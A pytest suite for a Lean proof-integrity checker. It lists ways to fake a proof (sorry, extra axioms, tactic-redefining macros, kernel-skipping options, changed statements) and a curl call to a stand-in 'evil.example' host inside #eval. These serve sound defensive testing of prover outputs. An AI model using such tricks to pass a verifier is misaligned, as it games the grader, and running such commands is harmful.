"""Static integrity rules: every rule against an adversarial example and its harmless look-alikes, and real data."""

from __future__ import annotations

import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kimina_verify import IntegrityPolicy, LeanCode, check_integrity

HEADER = (
    "import Mathlib\nimport Aesop\n\nset_option maxHeartbeats 400000\n\nopen BigOperators Real Nat Topology Rat\n\n"
)
STATEMENT = HEADER + "theorem target (x : ℝ) (h₀ : 0 < x) : 0 < x ^ 2 + 1 := by\n  sorry\n"
PROOF = "theorem target (x : ℝ) (h₀ : 0 < x) : 0 < x ^ 2 + 1 := by\n  positivity\n"


def codes(code: str, statement: str | None = None, policy: IntegrityPolicy | None = None) -> list[str]:
    return [v.code for v in check_integrity(code, statement, policy)]


# Each case: (rule code, code that must be rejected with that code).
ATTACKS = [
    ("sorry", "theorem t : 1 = 2 := by sorry"),
    ("sorry", "theorem t : 1 = 2 := by\n  exact (sorry : 1 = 2)"),
    ("sorry", "theorem t : 1 = 2 := by exact «sorry»"),
    ("sorry", "def f : ℕ → ℕ\n  | n => f n\ndecreasing_by sorry"),
    ("lexer_ambiguous", 'def s : String := s!"{(sorry : Nat)}"'),
    ("admit", "theorem t : 1 = 2 := by admit"),
    ("sorry_ax", "theorem t : 1 = 2 := sorryAx _ false"),
    ("sorry_ax", "theorem t : 1 = 2 := _root_.sorryAx _ false"),
    ("axiom", "axiom cheat : False\ntheorem t : 1 = 2 := cheat.elim"),
    ("axiom", "private axiom cheat : 1 = 2"),
    ("axiom", "axioms (p : Prop) (hp : p)"),
    ("side_command", '#eval IO.Process.run {cmd := "curl", args := #["evil.example"]}'),
    ("side_command", "theorem t : 1 = 2 := by\n  norm_num\n#exit"),
    ("side_command", "#print axioms t"),
    ("side_command", "#eval! (1 : Nat)"),
    ("run_command", 'run_cmd Lean.logInfo "hi"'),
    ("run_command", "theorem t : True := by run_tac Lean.Elab.Tactic.evalTactic (← `(tactic| trivial))"),
    ("run_command", "run_elab pure ()"),
    ("run_command", "run_meta pure ()"),
    ("unsafe", "unsafe def f : Nat := 1"),
    ("implemented_by", "@[implemented_by g] def f : Bool := false"),
    ("implemented_by", "attribute [implemented_by g] f"),
    ("extern", '@[extern "lean_cheat"] opaque f : Bool'),
    ("syntax_extension", 'macro "cheat" : tactic => `(tactic| decide)'),
    ("syntax_extension", "macro_rules | `(tactic| trivial) => `(tactic| decide)"),
    ("syntax_extension", 'syntax "cheat" : tactic'),
    ("syntax_extension", 'elab "cheat" : tactic => pure ()'),
    ("syntax_extension", 'local notation "ℝ" => ℕ'),
    ("syntax_extension", 'scoped infixl:65 " + " => HMul.hMul'),
    ("syntax_extension", 'notation3 "Σ\'" x => x'),
    ("syntax_extension", 'postfix:max "!" => Nat.succ'),
    ("syntax_extension", "simproc cheat (_) := fun _ => pure .continue"),
    ("set_option", "set_option debug.skipKernelTC true\ntheorem t : 1 = 2 := by decide"),
    ("set_option", "set_option autoImplicit true in\ntheorem t : 1 = 1 := rfl"),
    ("set_option", "theorem t : True := by\n  set_option trace.Meta.synthInstance true in\n  trivial"),
    ("unterminated", "theorem t : 1 = 1 := rfl\n/- the rest is hidden"),
    ("unterminated", 'def s := "never closed\ntheorem t : 1 = 1 := rfl'),
]


@pytest.mark.parametrize(("rule", "code"), ATTACKS, ids=[f"{r}-{i}" for i, (r, _) in enumerate(ATTACKS)])
def test_attack_is_rejected_with_its_code(rule: str, code: str) -> None:
    assert rule in codes(code)


LOOKALIKES = [
    "-- no sorry here\ntheorem t : 1 = 1 := rfl",
    "/- we could write sorry, admit, axiom, #eval or macro here -/\ntheorem t : 1 = 1 := rfl",
    '/-- docstring: "sorry" -/\ntheorem t : 1 = 1 := rfl',
    'theorem t : "sorry #eval axiom" = "sorry #eval axiom" := rfl',
    "theorem axiomatic_bound (h_axiom : True) : True := h_axiom",
    "theorem t (h_sorry sorry_free sorry' : ℕ) : h_sorry = h_sorry := rfl",
    "theorem admits_solution : True := trivial",
    "theorem sorryAxiom_free : True := trivial",
    "theorem t (external_angle unsafe_bound implemented_by_hand : ℕ) : True := trivial",
    "theorem t (prefix_sum h_notation syntaxes macro_count elab_time : ℕ) : True := trivial",
    "@[elab_as_elim] theorem my_induction {P : ℕ → Prop} (n : ℕ) (h : ∀ n, P n) : P n := h n",
    "theorem t (run_cmd_count : ℕ) : True := trivial",
    "#check Nat.add_comm\n#reduce 2 + 2\ntheorem t : 1 = 1 := rfl",
    "set_option maxHeartbeats 400000 in\ntheorem t : 1 = 1 := by\n  set_option maxRecDepth 10000 in\n  rfl",
    "set_option linter.unusedVariables false\nset_option maxRecDepth 2000\ntheorem t : 1 = 1 := rfl",
    "theorem t : 1 = 1 := by\n  native_decide",
    "theorem t : 2 + 2 = 4 := by decide",
    "theorem t (n : ℕ) (h : n = 1) : n ^ 2 = 1 := by\n  haveI := Classical.propDecidable\n  subst h; rfl",
    "theorem t : True := trivial\ninstance : Inhabited ℕ := ⟨0⟩",
    "inductive T | a | b deriving DecidableEq\nderiving instance Repr for T\ntheorem t : T.a = T.a := rfl",
    "theorem t (f : ℕ → ℕ) (s : Set ℕ) : f '' s = f '' s := rfl",
    "theorem t : True := by\n  exact (by trivial : True) -- sorry, nothing to see",
]


@pytest.mark.parametrize("code", LOOKALIKES)
def test_harmless_lookalike_passes(code: str) -> None:
    assert codes(code) == []


def test_huge_code_is_rejected_unread() -> None:
    huge = "theorem t : True := by\n" + "  trivial\n" * 200_000
    assert codes(huge) == ["too_long"]
    assert codes(huge, policy=IntegrityPolicy(max_code_bytes=10 << 20)) == []


def test_hostile_code_is_checked_quickly() -> None:
    hostile = "/-" * 50_000 + "«" * 50_000 + "'" * 50_000 + '"' + "\\" * 50_000
    assert "unterminated" in codes(hostile)


FORBIDDEN_TEXT = st.sampled_from(["sorry", "admit", "axiom cheat : False", "#eval 1", "macro", "sorryAx", "unsafe"])


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_forbidden_words_in_comments_and_strings_never_count(data: st.DataObject) -> None:
    lines = (HEADER + PROOF).split("\n")
    at = data.draw(st.integers(0, len(lines)))
    word = data.draw(FORBIDDEN_TEXT)
    hidden = data.draw(st.sampled_from([f"-- {word}", f"/- {word} -/", f"/-- {word} -/", f"/- /- {word} -/ -/"]))
    assert codes("\n".join([*lines[:at], hidden, *lines[at:]]), STATEMENT) == []


def test_violation_has_line_and_message() -> None:
    violations = check_integrity("import Mathlib\n\ntheorem t : 1 = 2 := by\n  -- sorry in a comment\n  sorry")
    assert [(v.code, v.line) for v in violations] == [("sorry", 5)]
    assert "sorry" in violations[0].message


def test_every_occurrence_is_reported_in_order() -> None:
    code = "axiom a : False\ntheorem t : 1 = 2 := by\n  admit\ntheorem u : 1 = 2 := by sorry"
    assert [(v.code, v.line) for v in check_integrity(code)] == [("axiom", 1), ("admit", 3), ("sorry", 4)]


# --- policies ----------------------------------------------------------------------------------------------------

NATIVE = [
    "theorem t : 1 = 1 := by native_decide",
    "theorem t : 1 = 1 := by decide +native",
    "theorem t : 1 = 1 := by decide (config := { native := true })",
    "theorem t : 1 = 1 := Lean.ofReduceBool _ _ rfl",
]


@pytest.mark.parametrize("code", NATIVE)
def test_native_decide_is_a_policy_switch(code: str) -> None:
    assert codes(code) == []
    assert "native_decide" in codes(code, policy=IntegrityPolicy(allow_native_decide=False))


def test_native_decide_mentions_pass_even_when_forbidden() -> None:
    forbid = IntegrityPolicy(allow_native_decide=False)
    assert codes("-- native_decide would work\ntheorem native_decide_free : True := trivial", policy=forbid) == []


def test_option_allow_list_is_configurable() -> None:
    code = "set_option autoImplicit true\ntheorem t : 1 = 1 := rfl"
    policy = IntegrityPolicy(allowed_options=frozenset({"autoImplicit"}))
    assert codes(code, policy=policy) == []


def test_accepted_axioms_follow_the_native_policy() -> None:
    assert "Lean.ofReduceBool" in IntegrityPolicy().accepted_axioms
    assert IntegrityPolicy(allow_native_decide=False).accepted_axioms == {"propext", "Classical.choice", "Quot.sound"}


# --- statement ---------------------------------------------------------------------------------------------------


def test_unchanged_statement_passes_with_helper_lemmas() -> None:
    code = HEADER + "lemma helper (x : ℝ) : 0 ≤ x ^ 2 := sq_nonneg x\n\n" + PROOF
    assert codes(code, STATEMENT) == []


def test_reformatted_statement_with_comments_passes() -> None:
    code = "theorem target (x:ℝ)\n    (h₀ : 0 < x) -- positive\n    : 0 < x^2 + /- the square -/ 1 := by\n  positivity"
    assert codes(code, STATEMENT) == []


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (PROOF.replace("theorem target", "theorem target'"), "statement_missing"),
        (PROOF.replace("theorem target", "theorem other"), "statement_missing"),
        (PROOF.replace("(h₀ : 0 < x)", "(h₀ : 1 < x)"), "statement_mismatch"),
        (PROOF.replace("(h₀ : 0 < x)", "(h₀ : 0 < x) (h₁ : x = 1)"), "statement_mismatch"),
        (PROOF.replace("(h₀ : 0 < x) ", ""), "statement_mismatch"),
        (PROOF.replace("0 < x ^ 2 + 1", "0 ≤ x ^ 2 + 1"), "statement_mismatch"),
        (PROOF.replace("0 < x ^ 2 + 1", "True"), "statement_mismatch"),
        (PROOF.replace("theorem target", "def target"), "statement_mismatch"),
        ("namespace X\n" + PROOF + "end X", "statement_missing"),
    ],
)
def test_changed_statement_is_rejected(code: str, rule: str) -> None:
    assert rule in codes(code, STATEMENT)


def test_mismatch_message_points_at_the_difference() -> None:
    (violation,) = check_integrity(PROOF.replace("0 < x ^ 2 + 1", "0 ≤ x ^ 2 + 1"), STATEMENT)
    assert violation.line == 1
    assert "expected `<`, found `≤`" in violation.message


DEF_STATEMENT = HEADER + "def f (n : ℕ) : ℕ := n ^ 2 + 1\n\ntheorem uses_f : f 2 = 5 := by\n  sorry\n"


def test_definitions_of_the_statement_must_be_kept() -> None:
    good = "def f (n : ℕ) : ℕ :=\n  n ^ 2 + 1 -- same\n\nlemma aux : 1 = 1 := rfl\n\ntheorem uses_f : f 2 = 5 := by\n  decide"
    assert codes(good, DEF_STATEMENT) == []
    weakened = good.replace("n ^ 2 + 1 -- same", "5")
    assert codes(weakened, DEF_STATEMENT) == ["statement_mismatch"]
    assert "definition of `f`" in check_integrity(weakened, DEF_STATEMENT)[0].message
    renamed = good.replace("def f", "def g").replace("f 2", "g 2")
    assert codes(renamed, DEF_STATEMENT) == ["statement_missing", "statement_mismatch"]


def test_statement_without_theorem_is_reported() -> None:
    assert codes(PROOF, HEADER + "-- nothing here\n") == ["statement_unparsable"]


def test_instances_and_variables_before_the_target_are_rejected() -> None:
    hijack = "instance : Add ℝ := ⟨fun a b => a * b⟩\n\n" + PROOF
    assert codes(HEADER + hijack, STATEMENT) == ["instance"]
    assert codes("attribute [-instance] Real.instAdd\n" + PROOF, STATEMENT) == ["instance"]
    assert codes("variable [Fact False]\n" + PROOF, STATEMENT) == ["variable"]
    assert codes("variable (cheat : False)\ninclude cheat\n" + PROOF, STATEMENT) == ["variable", "variable"]
    # After the target they cannot change it.
    assert codes(PROOF + "\ninstance : Inhabited ℝ := ⟨0⟩\n", STATEMENT) == []


def test_instances_given_by_the_statement_are_allowed() -> None:
    given = (
        HEADER + "instance : Fact (Nat.Prime 7) := ⟨by norm_num⟩\n\n" + "theorem target : (7 : ℕ) ≠ 0 := by\n  sorry"
    )
    code = "instance : Fact (Nat.Prime 7) := ⟨by norm_num⟩\n\ntheorem target : (7 : ℕ) ≠ 0 := by\n  norm_num"
    assert codes(code, given) == []


def test_reformatting_real_statements_keeps_them_equal(minif2f_rows: list[dict[str, Any]]) -> None:
    rng = random.Random(0)
    fillers = [" ", "\n  ", "  /- c -/ ", " -- c\n "]
    for row in minif2f_rows:
        statement = row["header"] + row["formal_statement"]
        lean = LeanCode(statement)
        target = lean.target()
        assert target is not None and target.proof_start is not None
        name = row["name"]
        tokens = [t for t in lean.lexed.tokens if target.start < t.start < target.proof_start - 2][1:]
        # Spacing and comments may go between tokens, not inside a symbol run (`⁻¹'` is one token to Lean), and no
        # comment right after Mathlib's `⁻¹'` (without Mathlib, Lean would read on inside it: the lexer refuses it).
        parts = []
        for tok, nxt in zip(tokens, [*tokens[1:], None], strict=True):
            glued = nxt is not None and nxt.start == tok.end and tok.kind == nxt.kind == "symbol"
            filler = rng.choice(fillers[:2] if tok.text == "'" else fillers)
            parts.append(statement[tok.start : tok.end] + ("" if glued else filler))
        reformatted = f"theorem {name} " + "".join(parts) + ":= by\n  simp"
        assert codes(reformatted, statement) == [], name
        texts = list(target.statement)
        numbers = [i for i, t in enumerate(texts) if t.isascii() and t.isdigit()]
        if numbers:
            i = rng.choice(numbers)
            texts[i] = str(int(texts[i]) + 1)
            changed = f"theorem {name} " + " ".join(texts) + " := by\n  simp"
            assert "statement_mismatch" in codes(changed, statement), name


# --- real data ---------------------------------------------------------------------------------------------------


def test_no_lean_accepted_proof_is_rejected(recorded_rows: list[dict[str, Any]]) -> None:
    """(a) None of the 565 proofs Lean accepted breaks a static rule under the default policy."""
    accepted = [row for row in recorded_rows if row["verdict"]]
    assert len(accepted) == 565
    rejected = {row["name"]: codes(row["full_code"]) for row in accepted if codes(row["full_code"])}
    assert rejected == {}


def test_real_completions_keep_their_statement(completions: list[dict[str, Any]]) -> None:
    for row in completions:
        block = row["completion"].rsplit("```lean4\n", 1)[1].split("```")[0]
        assert codes(block, row["formal_statement"]) == [], row["name"]


def test_real_proofs_match_the_minif2f_statement(
    recorded_rows: list[dict[str, Any]], minif2f_rows: list[dict[str, Any]]
) -> None:
    """The 242 accepted proofs of three open provers state exactly the miniF2F theorem they were given."""
    statements = {r["name"]: r["header"] + r["formal_statement"] for r in minif2f_rows if r["split"] == "test"}
    provers = (
        "deepseek-ai/DeepSeek-Prover-V2-7B",
        "Goedel-LM/Goedel-Prover-SFT",
        "AI-MO/Kimina-Prover-Preview-Distill-7B",
    )
    rows = [r for r in recorded_rows if r["verdict"] and r["model"] in provers]
    assert len(rows) == 242
    for row in rows:
        assert codes(row["full_code"], statements[row["name"]]) == [], row["name"]


def test_real_statement_change_is_caught(
    recorded_rows: list[dict[str, Any]], minif2f_rows: list[dict[str, Any]]
) -> None:
    # Goedel-Prover-V2's rectified mathd_algebra_314 adds `(1 / 4 : ℝ)`; a proof of the original differs from it.
    row = next(r for r in minif2f_rows if r["name"] == "mathd_algebra_314")
    proof = next(r for r in recorded_rows if r["name"] == "mathd_algebra_314" and r["model"] == "Kimina-Prover-Preview")
    assert codes(proof["full_code"], row["header"] + row["formal_statement"]) == []
    assert codes(proof["full_code"], row["header"] + row["formal_statement_rectified"]) == ["statement_mismatch"]
